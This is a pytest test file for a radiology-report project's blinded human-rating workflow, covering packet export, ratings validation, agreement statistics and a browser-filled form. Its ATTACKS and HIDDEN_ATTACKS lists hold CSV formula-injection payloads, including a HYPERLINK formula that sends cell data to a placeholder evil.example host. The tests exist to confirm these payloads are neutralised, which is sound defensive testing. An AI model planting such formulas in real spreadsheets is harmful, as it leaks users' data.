"""Blinded packets, rating validation and statistics, and the offline HTML form driven in headless Chromium."""

import pandas as pd
import pytest
import yaml

from radreport.config import StructuringConfig
from radreport.formatting import alpaca_records
from radreport.human_eval.ratings import (RatingsError, blinded_packet, krippendorff_alpha_interval, read_ratings,
                                  sample_cases, statistics, unblind, validate_ratings)
from radreport.ingest import ingest
from radreport.human_eval.form import write_packet
from radreport.structuring.reports import structure_reports
from tests.forms import fill_and_download


@pytest.fixture(scope="module")
def records(sample_path):
    return alpaca_records(structure_reports(ingest(sample_path).reports, StructuringConfig())[0],
                          "findings_to_impression")[0]


@pytest.fixture
def packet(records, tmp_path):
    cases = sample_cases(records, "test", 8, seed=1)
    sheet, key = blinded_packet(pd.DataFrame({"report_id": cases["report_id"].values, "findings": cases["input"].values,
                                              "radiologist": cases["output"].values,
                                              "model": ["Heart size normal. Lungs clear."] * len(cases)}), seed=1)
    return sheet, key, write_packet(sheet, tmp_path / "packet")


def test_sampling_covers_normal_and_abnormal_references(records):
    cases = sample_cases(records, "test", 12, seed=0)
    normal = cases["output"].str.contains("No acute|Normal", case=False)
    assert len(cases) == 12 and normal.any() and (~normal).any()
    assert cases.equals(sample_cases(records, "test", 12, seed=0))


def test_packet_holds_no_trace_of_which_side_is_the_model(packet):
    sheet, key, paths = packet
    assert set(key["A"]) == {"model", "radiologist"}  # both orders occur
    packet_text = "".join(p.read_text(errors="ignore") for p in paths if p.suffix != ".xlsx").lower()
    assert "radiologist" not in packet_text.replace("radiology", "") and "model" not in packet_text
    assert not any(report_id.lower() in packet_text for report_id in key["report_id"])
    assert list(sheet.columns) == ["case_id", "findings", "impression_A", "impression_B", "rating_A", "rating_B",
                                   "preferred", "comment", "rater_id"]
    assert (sheet[["rating_A", "rating_B", "preferred", "comment", "rater_id"]] == "").all().all()
    assert pd.read_excel(paths[1], dtype=str).fillna("")["case_id"].tolist() == sheet["case_id"].tolist()


ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B3&C3,"click")', "- Heart size normal.", "+1 cm nodule.",
           "@SUM(A1)", "\tTab first.", "\rCR first.", "Plain text."]


def test_no_sheet_cell_is_a_live_formula_and_the_xlsx_shows_the_text_exactly(tmp_path):
    from openpyxl import load_workbook

    findings = pd.DataFrame({"report_id": [f"R{i}" for i in range(len(ATTACKS))], "findings": ATTACKS,
                             "radiologist": ATTACKS[::-1], "model": ATTACKS})
    sheet, _ = blinded_packet(findings, seed=0)
    csv_path, xlsx_path, _ = write_packet(sheet, tmp_path)
    written = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    for column in ("findings", "impression_A", "impression_B"):
        for shown, original in zip(written[column], sheet[column]):
            assert shown == (original if original[0] not in "=+-@\t\r" else "'" + original)
    book = load_workbook(xlsx_path)
    cells = [cell for row in book["ratings"].iter_rows(min_row=2) for cell in row[1:4]]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == sheet[["findings", "impression_A", "impression_B"]].to_numpy().ravel().tolist()


HIDDEN_ATTACKS = [" =1+1", '\n=HYPERLINK("http://evil.example/")', "\ufeff=1", "\u200b+1", "\u200c-1",
                  "\u200d@SUM(A1)", "\u2060=1", "\u3000=1", '\uff1dHYPERLINK("http://evil.example/")', "\uff0b1",
                  "\uff0d1", "\uff20SUM(A1)", " \u200b\r\n\u3000\uff1d1"]


def test_a_formula_behind_invisible_or_full_width_characters_is_neutralised_too(tmp_path):
    from radreport.sheets import write_csv

    kept = ["Plain = text.", "\u3000Plain.", "a-b"]
    path = write_csv(pd.DataFrame({"text": HIDDEN_ATTACKS + kept}), tmp_path / "sheet.csv")
    written = pd.read_csv(path, dtype=str, keep_default_na=False)["text"].tolist()
    assert written == ["'" + attack for attack in HIDDEN_ATTACKS] + kept


def test_bad_ratings_are_all_reported_and_nothing_is_imported(packet, tmp_path):
    sheet, key, _ = packet
    ids = list(sheet["case_id"])
    path = tmp_path / "bad.csv"
    pd.DataFrame({"rater_id": ["r1", "r1", "r1", "", "r1"], "case_id": [ids[0], ids[0], "nope", ids[1], ids[2]],
                  "rating_A": ["4", "4", "3", "2", "7"], "rating_B": ["2", "2", "3", "2", "x"],
                  "preferred": ["A", "A", "B", "B", "C"], "comment": ""}).to_csv(path, index=False)
    with pytest.raises(RatingsError) as err:
        validate_ratings(read_ratings([str(path)]), key)
    problems = str(err.value).splitlines()
    assert any("row 4: unknown case_id 'nope'" in p for p in problems)
    assert any("row 5: missing rater_id" in p for p in problems)
    assert any("row 6: rating_A must be a whole number 1-5, got '7'" in p for p in problems)
    assert any("row 6: preferred must be A or B" in p for p in problems)
    assert any("row 3: duplicate rating" in p for p in problems)
    assert all(str(path) in p for p in problems)


def test_spreadsheet_numbers_and_rater_spellings_are_read_as_meant(packet, tmp_path):
    sheet, key, _ = packet
    ids = list(sheet["case_id"])
    path = tmp_path / "exported.csv"
    pd.DataFrame({"rater_id": ["R1", "r1 ", "R2"], "case_id": ids[:2] + ids[:1], "rating_A": ["3.0", "1e0", "5"],
                  "rating_B": ["4", "2.0", "3"], "preferred": ["a", "B", "A"], "comment": ""}).to_csv(path, index=False)
    ratings = validate_ratings(read_ratings([str(path)]), key)
    assert list(ratings["rating_A"]) == [3, 1, 5] and list(ratings["rater_id"]) == ["r1", "r1", "r2"]
    for bad in ("inf", "nan", "3.5", "-inf", "1e400"):
        path.write_text(f"rater_id,case_id,rating_A,rating_B,preferred,comment\nr1,{ids[0]},{bad},3,A,\n")
        with pytest.raises(RatingsError, match=f"rating_A must be a whole number 1-5, got '{bad}'"):
            validate_ratings(read_ratings([str(path)]), key)
    path.write_text("rater_id,case_id,rating_A,rating_B,preferred,comment\n")
    with pytest.raises(RatingsError, match="no ratings, only a header"):
        validate_ratings(read_ratings([str(path)]), key)


def test_statistics_unblind_and_agree():
    assert krippendorff_alpha_interval({1: [5, 5], 2: [1, 1], 3: [3, 3]}) == pytest.approx(1.0)
    assert krippendorff_alpha_interval({1: [1, 5], 2: [5, 1]}) < 0
    key = pd.DataFrame({"case_id": ["a", "b"], "report_id": ["1", "2"], "A": ["model", "radiologist"],
                        "B": ["radiologist", "model"]})
    ratings = pd.DataFrame({"rater_id": ["r1", "r1", "r2", "r2"], "case_id": ["a", "b", "a", "b"],
                            "rating_A": [4, 5, 4, 5], "rating_B": [2, 3, 2, 3], "preferred": ["A", "A", "A", "B"],
                            "comment": ""})
    stats = statistics(unblind(ratings, key))
    assert stats["mean_model_rating"] == pytest.approx(3.5) and stats["mean_radiologist_rating"] == pytest.approx(3.5)
    assert stats["model_preference_rate"] == pytest.approx(0.75) and stats["raters"] == 2
    assert stats["krippendorff_alpha_interval"] == pytest.approx(1.0)


def test_exported_form_is_filled_in_chromium_downloaded_and_imported(stack, tiny_model, sample_path, tmp_path,
                                                                      browser, capsys):
    from mlflow import MlflowClient

    from ops.stack import tracking_uri
    from radreport.paths import exports
    from run import main

    config = tmp_path / "tiny.yaml"
    config.write_text(yaml.safe_dump({"train": {"model": str(tiny_model), "max_steps": 2, "save_steps": 2},
                                      "eval": {"max_examples": 4, "max_new_tokens": 4}, "human_eval": {"cases": 6},
                                      "promotion": {"model_name": "radreport-rated", "beat_baselines": []}}))
    main(["run", "--config", str(config), "--data", str(sample_path)])
    form = exports() / "radreport-rated" / "rater_form.html"
    first = fill_and_download(browser, form, "rad1", lambda case_id: (4, 2, "A"))
    second = fill_and_download(browser, form, "rad2", lambda case_id: (5, 2, "A"))
    downloaded = pd.read_csv(first, dtype=str)
    assert len(downloaded) == 6 and set(downloaded["rating_A"]) == {"4"}
    assert downloaded["comment"].iloc[0] == "seen by rad1, with a comma"

    capsys.readouterr()
    main(["human-eval", "import", str(first), str(second), "--name", "radreport-rated"])
    out = capsys.readouterr().out
    assert "12 ratings by 2 raters on 6 cases" in out and "Krippendorff" in out and "rater rad2" in out
    client = MlflowClient(tracking_uri=tracking_uri(), registry_uri=tracking_uri())
    tags = client.get_model_version("radreport-rated", "1").tags
    assert 2.0 <= float(tags["human_eval.mean_model_rating"]) <= 5.0 and "human_eval.krippendorff_alpha_interval" in tags
    main(["models", "--name", "radreport-rated"])
    assert tags["human_eval.mean_model_rating"] in capsys.readouterr().out

    with pytest.raises(SystemExit, match="nothing imported"):  # the same file twice: duplicates, all rejected
        main(["human-eval", "import", str(first), str(first), "--name", "radreport-rated"])
